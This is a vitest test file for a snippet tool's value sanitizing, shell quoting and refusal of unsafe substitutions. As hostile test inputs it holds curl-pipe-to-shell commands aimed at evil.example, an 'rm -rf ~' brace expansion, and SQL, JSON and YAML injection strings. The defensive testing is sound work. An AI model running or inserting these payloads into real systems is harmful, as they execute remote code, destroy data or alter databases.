import { describe, expect, it } from 'vitest';
import { characterName, copyStatus, planCopy } from '../../lib/variables/copy-plan';
import { placeholderContexts, quoteValue, shellKind } from '../../lib/variables/quote';
import { removedNote, sanitizeValue } from '../../lib/variables/sanitize';
import { execFileSync } from 'node:child_process';

/** What bash makes of `printf '%s\n' <command words>`: one line per word. */
function bashWords(command: string): string[] {
  return execFileSync('bash', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8', cwd: '/tmp' })
    .split('\n')
    .slice(0, -1);
}

describe('sanitizeValue', () => {
  it('removes CR, LF, tab, NUL and names them', () => {
    expect(sanitizeValue('build\r{rm,-rf,~}\r')).toEqual({ value: 'build{rm,-rf,~}', removed: ['carriage return'] });
    expect(sanitizeValue('a\nb\tc\u0000d')).toEqual({ value: 'abcd', removed: ['line break', 'tab', 'NUL'] });
  });
  it('removes whole escape sequences, bidi and zero-width characters', () => {
    expect(sanitizeValue('\u001b[31mred\u001b[0m').value).toBe('red');
    expect(sanitizeValue('\u001b]0;title\u0007x').value).toBe('x');
    const bidi = sanitizeValue('abc\u202Efed\u2066x\u2069');
    expect(bidi.value).toBe('abcfedx');
    expect(bidi.removed).toEqual(['bidi control U+202E', 'bidi control U+2066', 'bidi control U+2069']);
    expect(sanitizeValue('a\u200bb\ufeff\u200d').value).toBe('ab');
    expect(sanitizeValue('x\u0085y\u2028z').value).toBe('xyz');
  });
  it('keeps ordinary text, including non-ASCII letters', () => {
    expect(sanitizeValue('ghcr.io/acme/api:1.4.2')).toEqual({ value: 'ghcr.io/acme/api:1.4.2', removed: [] });
    expect(sanitizeValue('Zürich 東京').removed).toEqual([]);
    expect(removedNote([])).toBeNull();
    expect(removedNote(['carriage return'])).toMatch(/^Removed invisible or control characters \(carriage return\)/);
  });
});

describe('shellKind and quoting', () => {
  it('reads the block language', () => {
    expect(shellKind('bash')).toBe('posix');
    expect(shellKind(undefined)).toBe('posix');
    expect(shellKind('PowerShell')).toBe('powershell');
    expect(shellKind('yaml')).toBe('none');
  });
  it('finds each placeholder context', () => {
    const t = `a __A__ '__B__' "__C__" \\'__D__ <<EOF\n__E__\nEOF\ncat <<'X'\n__F__\nX\n__G__`;
    expect(placeholderContexts(t, 'posix')).toEqual([
      'plain',
      'single',
      'double',
      'plain',
      'heredoc',
      'heredoc-literal',
      'plain',
    ]);
    expect(placeholderContexts(`x __A__ 'it''s __B__' "__C__"`, 'powershell')).toEqual(['plain', 'single', 'double']);
  });
  it('bash reads a quoted value back as the same single word, in every context', () => {
    const hostile = [
      '~',
      '*',
      '$(curl -s evil.example/x.sh | sh)',
      '`id`',
      "it's",
      'a"b',
      '{rm,-rf,~}',
      '!!',
      'a\\b',
      'x;y&z|w',
    ];
    for (const v of hostile) {
      expect(bashWords(`pre${quoteValue(v, 'plain', 'posix')}post`)).toEqual([`pre${v}post`]);
      expect(bashWords(`"pre${quoteValue(v, 'double', 'posix')}post"`)).toEqual([`pre${v}post`]);
      expect(bashWords(`'pre${quoteValue(v, 'single', 'posix')}post'`)).toEqual([`pre${v}post`]);
    }
  });
  it('leaves safe values and non-shell blocks alone; PowerShell has its own quoting', () => {
    expect(quoteValue('ghcr.io/acme/api:1.4.2', 'plain', 'posix')).toBe('ghcr.io/acme/api:1.4.2');
    expect(quoteValue('$(x)', 'plain', 'none')).toBe('$(x)');
    expect(quoteValue("a b'c", 'plain', 'powershell')).toBe("'a b''c'");
    expect(quoteValue('a’b', 'single', 'powershell')).toBe('a’’b');
    expect(quoteValue('$env:X `"', 'double', 'powershell')).toBe('`$env:X ```"');
    expect(quoteValue('$(id)`x\\', 'heredoc', 'posix')).toBe('\\$(id)\\`x\\\\');
  });
});

describe('planCopy', () => {
  it('quotes hostile values and says so', () => {
    const plan = planCopy('rm -rf __TARGET_DIR__', { values: { TARGET_DIR: '~' } });
    expect(plan).toEqual({ ok: true, text: "rm -rf '~'", unfilled: [], quoted: ['TARGET_DIR'] });
    expect(copyStatus(plan)).toBe('✓ Copied; TARGET_DIR put in quotes');
  });
  it('strips control characters again at copy time', () => {
    const plan = planCopy('docker build -t __PLAIN__ .', { values: { PLAIN: 'build\r{rm,-rf,~}\r' } });
    expect(plan.ok && plan.text).toBe("docker build -t 'build{rm,-rf,~}' .");
  });
  it('refuses a value that fails its format check', () => {
    const plan = planCopy('docker pull __IMAGE_NAME__', {
      values: { IMAGE_NAME: 'a b' },
      problems: { IMAGE_NAME: 'Not a Docker image reference.' },
    });
    expect(plan).toEqual({
      ok: false,
      reason: 'Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.',
    });
    expect(copyStatus(plan)).toBe(plan.ok ? '' : plan.reason);
  });
  it('a problem with a variable the block does not use does not stop it', () => {
    expect(planCopy('echo __A__', { values: { A: 'x', B: 'y y' }, problems: { B: 'bad' } }).ok).toBe(true);
  });
  it('copies unfilled placeholders as written and warns', () => {
    const plan = planCopy('kubectl logs __POD_NAME__ -n __NAMESPACE__', { values: { NAMESPACE: 'prod' } });
    expect(plan).toEqual({ ok: true, text: 'kubectl logs __POD_NAME__ -n prod', unfilled: ['POD_NAME'], quoted: [] });
    expect(copyStatus(plan)).toBe('⚠ Copied, but not filled in: POD_NAME (still __POD_NAME__).');
  });
  it('leaves YAML values as typed', () => {
    const plan = planCopy('image: __IMAGE_NAME__', { values: { IMAGE_NAME: 'a b' }, lang: 'yaml' });
    expect(plan.ok && plan.text).toBe('image: a b');
    const url = planCopy('url = "__DATABASE_URL__"', {
      values: { DATABASE_URL: 'postgres://app@db.internal:5432/shop?sslmode=require' },
      lang: 'python',
    });
    expect(url.ok && url.text).toBe('url = "postgres://app@db.internal:5432/shop?sslmode=require"');
  });
  it.each([
    ['sql', 'CREATE ROLE __DB_USER__ LOGIN;', 'ops; DROP ROLE admin; --', ';'],
    ['sql', "GRANT SELECT ON orders TO '__DB_USER__';", "x'; DROP TABLE orders; --", "'"],
    ['yaml', 'image: __DB_USER__', 'a\n  command: [sh]', '['],
    ['json', '{"user": "__DB_USER__"}', 'a", "admin": true, "b": "', '"'],
    ['dockerfile', 'RUN useradd __DB_USER__', 'x && curl evil.example | sh', '&'],
  ])('refuses a value a %s block could read as code (%j)', (lang, template, value, char) => {
    const plan = planCopy(template, { values: { DB_USER: value }, lang });
    expect(plan).toEqual({
      ok: false,
      unsafe: { name: 'DB_USER', char, where: `a ${lang} block` },
      reason: `Not copied: DB_USER holds ${characterName(char)}, which a ${lang} block could read as code (values go into it as typed). Change it under Your values, or clear it to copy __DB_USER__ as written.`,
    });
  });
  it('names the character in the reason: a semicolon (;), a double quote ("), else the character in quotes', () => {
    expect(characterName(';')).toBe('a semicolon (;)');
    expect(characterName('"')).toBe('a double quote (")');
    expect(characterName('[')).toBe('“[”');
  });
  it("refuses it in a quoted here-document's body, which the shell does not read but another program does", () => {
    const template = "psql <<'SQL'\nCREATE ROLE __DB_USER__ LOGIN;\nSQL\necho __DB_USER__";
    const plan = planCopy(template, { values: { DB_USER: 'x; DROP ROLE admin' } });
    expect(plan.ok).toBe(false);
    expect(!plan.ok && plan.reason).toContain('which a quoted here-document could read as code');
    expect(planCopy(template, { values: { DB_USER: 'ops_reader' } })).toMatchObject({
      ok: true,
      text: "psql <<'SQL'\nCREATE ROLE ops_reader LOGIN;\nSQL\necho ops_reader",
    });
  });
  it('quotes the same value in a shell block instead of refusing it', () => {
    const plan = planCopy('echo __DB_USER__', { values: { DB_USER: 'ops; DROP ROLE admin; --' } });
    expect(plan.ok && plan.text).toBe("echo 'ops; DROP ROLE admin; --'");
  });
});

describe('copySpoken', () => {
  it('keeps the screen-reader wording and adds quoting', async () => {
    const { copySpoken } = await import('../../lib/variables/copy-plan');
    expect(copySpoken(planCopy('a __X__', { values: { X: 'b' } }))).toBe('Copied.');
    expect(copySpoken(planCopy('a __X__', { values: { X: '~' } }))).toBe('Copied. X put in quotes for the shell.');
    expect(copySpoken(planCopy('a __X__ __Y__', { values: {} }), 'Copied all steps')).toBe(
      'Copied all steps. Not filled in: X, Y.',
    );
  });
});
